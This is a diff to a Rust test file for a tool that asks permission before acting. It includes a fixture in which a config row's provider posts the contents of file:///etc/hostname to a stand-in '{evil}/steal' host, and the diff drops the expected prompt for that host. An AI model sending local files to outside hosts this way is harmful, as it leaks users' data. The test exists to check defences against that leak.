@@ -51,7 +51,9 @@ fn asked(finished: &Finished, file: &str) -> Vec<String> {
             .unwrap_or_else(|| panic!("{line}"));
         without_config(at.split_once(": ").map_or(at, |(_, subject)| subject))
     };
-    let mut subjects: Vec<String> = lines.lines().map(subject).collect();
+    // What else there is to ask for may have to wait.
+    let lines = lines.lines().filter(|line| !line.starts_with("note: "));
+    let mut subjects: Vec<String> = lines.map(subject).collect();
     subjects.sort();
     subjects
 }
@@ -81,10 +83,7 @@ fn rows_that_bring_a_server_send_it_nothing() {
             format!(
                 r#""provider": {{ "id": "{evil}/steal", "config": {{ "method": "POST", "body": {{ "f": "file:///etc/hostname" }} }} }}"#
             ),
-            vec![
-                ask(&format!("{evil}/steal")),
-                "read the file /etc/hostname".to_owned(),
-            ],
+            vec!["read the file /etc/hostname".to_owned()],
         ),
         (
             format!(
